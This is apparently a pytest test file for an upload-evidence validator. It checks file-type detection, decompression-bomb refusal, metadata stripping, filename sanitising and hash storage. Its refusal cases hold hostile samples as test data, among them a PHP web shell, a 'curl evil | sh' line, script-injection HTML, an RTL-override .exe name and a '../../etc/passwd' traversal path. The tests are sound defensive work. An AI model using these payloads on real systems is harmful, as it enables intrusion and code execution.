"""diagnosis/evidence.py without the web: the kind by content, the name against it, images redrawn
without metadata, decompression bombs, storage by hash. Files are built here (Pillow, zipfile)."""

from __future__ import annotations

import io
import zipfile
from functools import cache

import pytest
from PIL import ExifTags, Image

from diagnosis import evidence
from diagnosis.evidence import Limits, Refused, check

LIMITS = Limits()
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
GPS = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (31.0, 45.0, 12.5),
       ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (115.0, 52.0, 3.25)}


def jpeg(size=(400, 300), orientation: int | None = None, gps: bool = False, **options) -> bytes:
    """A JPEG whose left half is red, right half blue, with the EXIF asked for."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "AcmeCam"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        exif[ExifTags.IFD.GPSInfo] = GPS
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, **options)
    return out.getvalue()


def png(mode="RGB", size=(60, 40), color=(10, 200, 10)) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, "PNG")
    return out.getvalue()


def office(main_type: str | None, part: str = "word/document.xml", extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        if main_type is not None:
            archive.writestr("[Content_Types].xml", (
                '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/{part}" ContentType="{main_type}"/></Types>'))
        archive.writestr(part, "<document/>")
        for name, text in (extra or {}).items():
            archive.writestr(name, text)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@cache
def bomb() -> bytes:
    """A 15000 x 15000 single-colour PNG: 50 KB on disk, 225 megapixels decoded (4.5 x the limit)."""
    out = io.BytesIO()
    Image.new("1", (15000, 15000), 1).save(out, "PNG")
    return out.getvalue()


def refusal(name: str, data: bytes, limits: Limits = LIMITS) -> str:
    with pytest.raises(Refused) as refused:
        check(name, data, limits)
    return refused.value.code


@pytest.mark.parametrize(("name", "data", "content_type"), [
    ("车间照片 1.JPG", jpeg(), "image/jpeg"),
    ("diagram.png", png(), "image/jpeg"),
    ("报告.pdf", PDF, "application/pdf"),
    ("台账.xlsx", office(XLSX_MAIN, "xl/workbook.xml"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("制度.docx", office(DOCX_MAIN),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
])
def test_allowed_kinds_are_recognised_by_content(name, data, content_type):
    checked = check(name, data, LIMITS)
    assert checked.content_type == content_type
    assert checked.sha256 == evidence.hashlib.sha256(checked.data).hexdigest()


@pytest.mark.parametrize(("name", "data", "code"), [
    ("photo.jpg", b"<?php system($_GET['c']); ?>", "wrong_type"),
    ("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n", "wrong_type"),
    ("report.pdf", b"<!doctype html><html><script>alert(1)</script></html>", "wrong_type"),
    ("report.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "wrong_type"),  # no %%EOF
    ("制度.docx", office(None, "notes.txt"), "wrong_type"),  # a plain zip
    ("制度.docx", office(None, "META-INF/MANIFEST.MF"), "wrong_type"),  # a jar
    ("制度.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml"), "wrong_type"),  # docm
    ("制度.docx", office(DOCX_MAIN, "word/document.xml")[:-30], "wrong_type"),  # truncated zip
    ("台账.xlsx", office(DOCX_MAIN), "name_mismatch"),  # a Word document named as a workbook
    ("photo.jpg", png(), "name_mismatch"),
    ("photo", jpeg(), "name_mismatch"),
    ("C:\\fakepath\\\u202egpj.exe", jpeg(), "name_mismatch"),
    ("empty.pdf", b"", "empty"),
    ("broken.jpg", jpeg()[:400], "unreadable"),
    ("iphone.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64), "heic"),
])
def test_refusals(name, data, code):
    assert refusal(name, data) == code


def test_a_zip_must_hold_the_main_part_it_declares():
    declared_only = io.BytesIO()
    with zipfile.ZipFile(declared_only, "w") as archive:
        declared = f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
        archive.writestr("[Content_Types].xml", f"<Types>{declared}</Types>")
    assert refusal("制度.docx", declared_only.getvalue()) == "wrong_type"


def test_oversized_file_is_refused_before_reading_further():
    small = Limits(max_file_bytes=1000)
    stream = io.BytesIO(bytes(5000))
    with pytest.raises(Refused) as refused:
        evidence.read_limited(stream, small)
    assert refused.value.code == "too_large" and stream.tell() == 1001
    assert refusal("报告.pdf", PDF + bytes(2000), small) == "too_large"


def test_a_decompression_bomb_is_refused_before_decoding():
    data = bomb()
    assert len(data) < 200_000
    assert refusal("bomb.png", data) == "too_many_pixels"  # Pillow's DecompressionBombError (> 2 x limit)


def test_an_image_over_the_pixel_limit_is_refused():
    # Between the limit and twice it Pillow only warns: the warning is refused the same way.
    assert refusal("big.png", png("1", (3000, 2000), 1), Limits(max_pixels=5_000_000)) == "too_many_pixels"
    assert refusal("big.png", png("1", (3000, 2000), 1), Limits(max_pixels=1_000_000)) == "too_many_pixels"


def test_gps_and_all_other_metadata_are_removed():
    original = jpeg(gps=True, comment=b"site: plant 3", orientation=1)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    stored = check("site.jpg", original, LIMITS).data
    image = Image.open(io.BytesIO(stored))
    assert not image.getexif() and "exif" not in image.info
    assert not {"comment", "xmp"} & set(image.info)
    assert b"AcmeCam" not in stored and b"Exif" not in stored and b"plant 3" not in stored


def test_orientation_is_applied():
    # Orientation 6: the camera was turned; the stored image is upright (portrait), red on top.
    stored = check("turned.jpg", jpeg((400, 300), orientation=6), LIMITS).data
    image = Image.open(io.BytesIO(stored)).convert("RGB")
    assert image.size == (300, 400)
    red, blue = image.getpixel((150, 50)), image.getpixel((150, 350))
    assert red[0] > 150 > red[2] and blue[2] > 150 > blue[0]


def test_large_photos_are_shrunk_to_the_long_side_limit():
    checked = check("wide.jpg", jpeg((5000, 1000)), LIMITS)
    assert Image.open(io.BytesIO(checked.data)).size == (2560, 512)
    assert Image.open(io.BytesIO(check("tall.png", png(size=(600, 3000)), LIMITS).data)).size == (512, 2560)


def test_transparency_stays_png_everything_else_becomes_jpeg():
    transparent = check("logo.png", png("RGBA", color=(0, 0, 0, 0)), LIMITS)
    assert transparent.content_type == "image/png" and transparent.name == "logo.png"
    opaque = check("截图.png", png("RGBA", color=(0, 0, 0, 255)), LIMITS)
    assert opaque.content_type == "image/jpeg" and opaque.name == "截图.jpg"
    out = io.BytesIO()
    Image.new("RGB", (50, 50)).save(out, "WEBP")
    webp = check("pic.webp", out.getvalue(), LIMITS)
    assert webp.content_type == "image/jpeg" and webp.name == "pic.jpg"


def test_display_names():
    assert evidence.display_name("C:\\Users\\张\\车间 照片.jpg") == "车间 照片.jpg"
    assert evidence.display_name("../../etc/passwd.pdf") == "passwd.pdf"
    assert evidence.display_name("a\u202egpj.exe\x00\n") == "agpj.exe"
    long_name = "很" * 300 + ".pdf"
    shown = evidence.display_name(long_name)
    assert len(shown) == 255 and shown.endswith(".pdf")


def test_stored_once_by_hash(tmp_path):
    checked = check("a.pdf", PDF, LIMITS)
    path = evidence.store(tmp_path, checked)
    assert path == tmp_path / checked.sha256[:2] / checked.sha256 and path.read_bytes() == PDF
    modified = path.stat().st_mtime_ns
    assert evidence.store(tmp_path, check("b.pdf", PDF, LIMITS)) == path
    assert path.stat().st_mtime_ns == modified
    assert [p.name for p in path.parent.iterdir()] == [checked.sha256]  # no temporary file left
